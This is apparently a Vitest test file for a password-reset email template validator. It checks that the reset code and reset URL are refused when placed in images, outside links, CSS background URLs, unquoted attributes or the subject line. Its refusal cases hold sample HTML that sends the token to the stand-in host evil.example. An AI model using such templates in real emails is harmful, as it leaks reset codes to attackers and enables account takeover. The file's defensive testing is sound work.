import { describe, expect, it } from 'vitest';
import { defaultTemplates } from './defaults.ts';
import { assertTemplate } from './render.ts';

const reset = { subject: 'Reset', text: 'Code: {{token}}' };

describe('a secret (the reset code) can reach only the reader', () => {
  it('accepts the default templates, the code as text and the reset URL as a whole href', () => {
    for (const template of Object.values(defaultTemplates.password_reset)) {
      expect(() => assertTemplate('password_reset', template)).not.toThrow();
    }
    expect(() =>
      assertTemplate('password_reset', {
        ...reset,
        html: '<p>{{token}}</p>{{#if resetUrl}}<a href="{{resetUrl}}">go</a>{{/if}}',
      }),
    ).not.toThrow();
  });

  it.each([
    ['an image that loads on open', '<img src="https://evil.example/{{token}}">'],
    ['a link elsewhere carrying the code', '<a href="https://evil.example/?c={{token}}">x</a>'],
    ['the reset URL inside another URL', '<a href="https://evil.example/?u={{resetUrl}}">x</a>'],
    ['the reset URL as an image source', '{{#if resetUrl}}<img src="{{resetUrl}}">{{/if}}'],
    ['a style rule', '<style>p{background:url(https://evil.example/{{token}})}</style>'],
    ['an unquoted attribute', '<img src=https://evil.example/{{token}}>'],
  ])('refuses %s', (_label, html) => {
    expect(() => assertTemplate('password_reset', { ...reset, html })).toThrow(
      expect.objectContaining({ reason: 'EMAIL_TEMPLATE_SECRET_PLACEMENT', field: 'html' }),
    );
  });

  it('refuses the code in the subject, which the email log keeps', () => {
    expect(() =>
      assertTemplate('password_reset', { ...reset, subject: 'Your code {{token}}', html: '' }),
    ).toThrow(expect.objectContaining({ field: 'subject' }));
  });
});
